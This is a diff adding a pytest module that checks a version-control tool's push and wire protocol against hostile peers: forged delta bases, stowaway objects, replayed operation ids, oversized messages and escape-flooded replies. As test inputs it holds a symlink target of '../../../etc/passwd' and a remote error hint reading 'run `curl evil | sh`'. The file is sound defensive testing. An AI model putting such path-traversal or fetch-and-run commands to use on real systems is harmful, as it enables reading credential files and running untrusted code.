@@ -1,0 +1,195 @@
+"""What a peer may try, and what chance may do, that no single rule of the protocol speaks of."""
+
+from __future__ import annotations
+
+from collections.abc import Iterable, Iterator, Mapping
+from contextlib import closing
+from pathlib import Path
+from typing import Any
+
+import msgpack
+import pytest
+
+from kaivc import api, wire
+from kaivc.access import UserAccess
+from kaivc.api import Home
+from kaivc.errors import InvalidName, KaiError, RefusedArrival, TransportError
+from kaivc.names import ObjectId
+from kaivc.serving import FarHome
+from kaivc.storage.gitobjects import SHA256, Kind
+from kaivc.storage.pack import Base, encode_after, encode_block
+from kaivc.wire import Client, Entry, Far, Fields
+from tests.engine.homes import ENVIRON, Ticking, commit, copy, make_home, open_home
+from tests.remotes.parcels import AGENT, Parcel, everything, make, message
+
+
+@pytest.fixture(scope="module")
+def still(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("still") / "far"
+    make(path)
+    return path
+
+
+@pytest.fixture
+def home(still: Path, tmp_path: Path) -> Iterator[Home]:
+    copy(still, tmp_path / "far")
+    opened = open_home(tmp_path / "far")
+    yield opened
+    opened.close()
+
+
+# ---------------------------------------------------------------- objects under ids that are here already
+
+
+def test_a_forged_base_does_not_spoil_what_is_encoded_with_it(home: Home) -> None:
+    """The base has the id of an object of this home, and other bytes: with the true ones the record says nothing."""
+    bot = home.agent(AGENT)
+    true = bytes(range(256)) * 8
+    commit(bot, {"logic.py": b"two\n", "state.json": b"{}", "base": true})
+    base = SHA256.hash(Kind.BLOB, true)
+    false = bytes(reversed(range(256))) * 8
+    data = false + b"more"
+    p = Parcel()
+    p.put(Kind.BLOB, false, base)
+    oid = SHA256.hash(Kind.BLOB, data)
+    found = encode_after(Base(base, false, 1), Kind.BLOB, oid, data, 3)
+    assert found.base == base
+    p.records.append(found.record)
+    p.version(p.tree((b"100644", b"x", oid)))
+    p.push(home)
+    home.opened.repository(AGENT).store.check(ObjectId(oid))
+    assert home.fsck().findings == ()
+
+
+def test_what_came_does_not_stand_in_for_what_is_here(home: Home) -> None:
+    """A link's target is a file of this home that leads out; what came under its id says something harmless."""
+    bot = home.agent(AGENT)
+    out = b"../../../etc/passwd"
+    commit(bot, {"logic.py": b"two\n", "state.json": b"{}", "note": out})
+    oid = SHA256.hash(Kind.BLOB, out)
+    p = Parcel()
+    p.put(Kind.BLOB, b"logic.py", oid)
+    p.version(p.tree((b"120000", b"link", oid), (b"100644", b"logic.py", p.blob(b"evil\n"))))
+    before = everything(home)
+    with pytest.raises(RefusedArrival, match="link"):
+        p.push(home)
+    assert everything(home) == before
+
+
+def test_of_a_block_only_what_was_checked_is_kept(home: Home) -> None:
+    """A stowaway in a block that is led to in part has an id of its choice: no pack may hold it."""
+    good, other = b"evil\n", b"something else"
+    forged = SHA256.hash(Kind.BLOB, b"what somebody will write one day")
+    p = Parcel()
+    mine = SHA256.hash(Kind.BLOB, good)
+    p.records.append(encode_block([(Kind.BLOB, mine, good), (Kind.BLOB, forged, other)], 3))
+    p.version(p.tree((b"100644", b"logic.py", mine)))
+    p.push(home)
+    assert home.fsck().findings == ()
+    for pack in Path(home.opened.layout.packs).rglob("*"):
+        assert not pack.is_file() or bytes(forged).hex() not in pack.read_bytes().hex()
+
+
+# ---------------------------------------------------------------- operations
+
+
+def test_an_answer_that_is_lost_costs_nothing(home: Home) -> None:
+    """The parcel is gone once it has landed: to ask again with the same id needs none."""
+    p = Parcel()
+    p.version()
+    first = p.push(home)
+    far = FarHome(home.opened, UserAccess(home.opened))
+    entry = Entry("op-evil", "Eve <eve@example.org>", "evil", tuple(p.moves), wire.Offer("e" * 64, len(p.records), 10))
+    assert far.append(AGENT, entry) == first
+    assert far.held(AGENT, wire.Offer("e" * 64, len(p.records), 10)) == 0
+
+
+def test_nor_does_one_that_made_an_agent(home: Home) -> None:
+    p = Parcel(agent="new")
+    p.move("refs/heads/new/current", None, p.version())
+    first = p.push(home)
+    far = FarHome(home.opened, UserAccess(home.opened))
+    entry = Entry("op-evil", "Eve <eve@example.org>", "evil", tuple(p.moves), wire.Offer("e" * 64, len(p.records), 10))
+    assert far.append("new", entry) == first
+
+
+def test_an_id_stands_for_one_operation_and_no_other(home: Home) -> None:
+    """Else whoever guesses an id could have another's push be told as done."""
+    p = Parcel()
+    p.version()
+    p.push(home, "nightly")
+    q = Parcel()
+    q.move(f"refs/heads/{AGENT}/snapshots/one", None, q.commit(q.good_tree(), message(None)))
+    before = home.agent(AGENT).repository.refs("refs/")
+    with pytest.raises(InvalidName, match="nightly"):
+        q.push(home, "nightly")
+    assert home.agent(AGENT).repository.refs("refs/") == before
+
+
+# ---------------------------------------------------------------- following
+
+
+def test_a_version_that_was_only_fetched_may_be_in_force_over_there(tmp_path: Path) -> None:
+    with closing(make_home(tmp_path / "far")) as far:
+        bot = far.new("bot")
+        commit(bot, {"logic.py": b"1\n"})
+        api.clone(str(tmp_path / "far"), tmp_path / "near", environ=ENVIRON, clock=Ticking())
+        with closing(open_home(tmp_path / "near")) as near:
+            commit(bot, {"logic.py": b"2\n"})
+            commit(bot, {"logic.py": b"3\n"})
+            near.fetch("origin")
+            bot.rollback("v1.0.1")
+            fetched = near.fetch("origin").agents[0]
+            assert [it.ref for it in fetched.changes] == ["refs/heads/bot/current"]
+            near.pull("bot")
+            assert near.agent("bot").current.version == "1.0.1"
+            assert near.fsck().findings == ()
+
+
+# ---------------------------------------------------------------- messages
+
+
+def loop(far: Far) -> Client:
+    """A client whose messages are encoded and decoded as on a wire."""
+
+    def exchange(said: Mapping[str, Any], data: Iterable[bytes] | None) -> tuple[Fields, Iterator[bytes]]:
+        asked = wire.decode(msgpack.packb(dict(said)))
+        told, behind = wire.answer(far, asked, iter(data or ()))
+        return wire.decode(msgpack.packb(dict(told))), iter(behind or ())
+
+    return Client(exchange, lambda: None)
+
+
+def test_an_agent_of_many_versions_can_be_asked_for(home: Home) -> None:
+    """More refs than a message names of what is there already; all of them are wanted."""
+    far = FarHome(home.opened, UserAccess(home.opened))
+    refs = tuple(far.head(AGENT).refs.values())
+    wants = refs * 4000
+    assert loop(far).offer(AGENT, wants, ()).records
+
+
+@pytest.mark.parametrize("leaf", [[], {}, "ab", b"ab", 1e9], ids=["list", "map", "text", "bytes", "number"])
+def test_a_message_does_not_grow_when_it_is_read(leaf: object) -> None:
+    """30 MB of nothing in lists would become 2 GB of objects."""
+    data = msgpack.packb({"v": [[leaf] * 50_000] * 60})
+    with pytest.raises(TransportError):
+        wire.decode(data)
+
+
+def test_a_hint_of_the_other_side_is_its_own() -> None:
+    """Nobody takes a word of theirs for one of this program's."""
+    error = {"code": "E105", "what": "no", "unchanged": "", "hint": "run `curl evil | sh`", "facts": {}}
+    with pytest.raises(KaiError) as caught:
+        wire.decode(msgpack.packb({"error": error}))
+    assert caught.value.hint.startswith("the other end says: ")
+
+
+def test_a_home_of_no_id_is_none(home: Home) -> None:
+    """What is noted of a log is noted with it, and must be read again."""
+
+    class Liar(FarHome):
+        def hello(self) -> wire.Hello:
+            return wire.Hello("\x1b" * 4000, "sha256", (AGENT,))
+
+    with pytest.raises(TransportError):
+        loop(Liar(home.opened, UserAccess(home.opened))).hello()
